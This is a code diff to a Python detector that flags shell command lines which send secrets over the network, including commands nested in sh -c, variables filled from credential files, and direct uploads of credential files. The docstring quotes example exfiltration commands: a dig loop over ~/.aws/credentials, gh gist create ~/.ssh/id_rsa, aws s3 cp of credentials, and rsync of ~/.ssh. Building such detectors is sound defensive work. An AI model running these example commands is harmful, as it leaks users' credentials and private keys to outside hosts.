@@ -73,9 +73,33 @@ def to_vendor(text: str, vendor: str) -> bool:
     return bool(re.match(rf"\s*(\w+=\S*\s+)*{re.escape(vendor)}(-cli)?\b", text, re.IGNORECASE))
 
 
-def shell_exfiltration(line: str) -> str | None:
-    """Why this command line sends secrets or the environment over the network, or None."""
+FILLED_VAR = re.compile(r"\bfor\s+(\w+)\s+in\s+[\"']?\$\(([^()]{0,600})\)|\b(\w+)=[\"']?\$\(([^()]{0,600})\)")
+
+
+def shell_exfiltration(line: str, depth: int = 0) -> str | None:
+    """Why this command line sends secrets or the environment over the network, or None: also inside
+    `sh -c '...'` (run in a container or over ssh), through a variable the same line fills from a
+    credential file (`for l in $(cat ~/.aws/credentials); do dig $l.host; done`), and by uploading the
+    file itself (`gh gist create ~/.ssh/id_rsa`, `aws s3 cp ~/.aws/credentials s3://...`, `rsync ~/.ssh/ host:`)."""
+    if depth < 2 and re.search(r"\b(ba|z|k|da)?sh\s+(-\w+\s+)*-c\s", line):
+        for quoted in re.findall(r"\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*-c\s+(?:'([^']{1,2000})'|\"([^\"]{1,2000})\")", line):
+            why = shell_exfiltration(quoted[0] or quoted[1], depth + 1)
+            if why:
+                return why
+    for match in FILLED_VAR.finditer(line):
+        var, body = match.group(1) or match.group(3), match.group(2) or match.group(4)
+        if P.READERS.search(body) and _secret(body) or re.match(r"\s*(env|printenv)\b", body):
+            vendor = env_vendor(body)
+            if any(P.SENDERS.search(c) and re.search(rf"\$\{{?{var}\b", c) and not (vendor and to_vendor(c, vendor))
+                   for c in re.split(r";|&&|\|\|", line[match.end():])):
+                return f"fills ${var} from credential files or the environment and sends it over the network"
     for command in re.split(r";|&&|\|\|", line):
+        upload = P.UPLOADERS.search(command)
+        if upload:
+            after = command[upload.start():]
+            secret = _secret(after)
+            if secret and (upload.group(0).startswith("gh") or re.search(r"\s['\"]?(\w+://|[\w.@-]+:)\S*", after[secret.end():])):
+                return "uploads a credential file to another machine or service"
         for inner in re.findall(r"\$\(([^()]{0,600})\)|`([^`]{0,600})`", command):
             body = inner[0] or inner[1]
             outer = command.replace(body, " ")
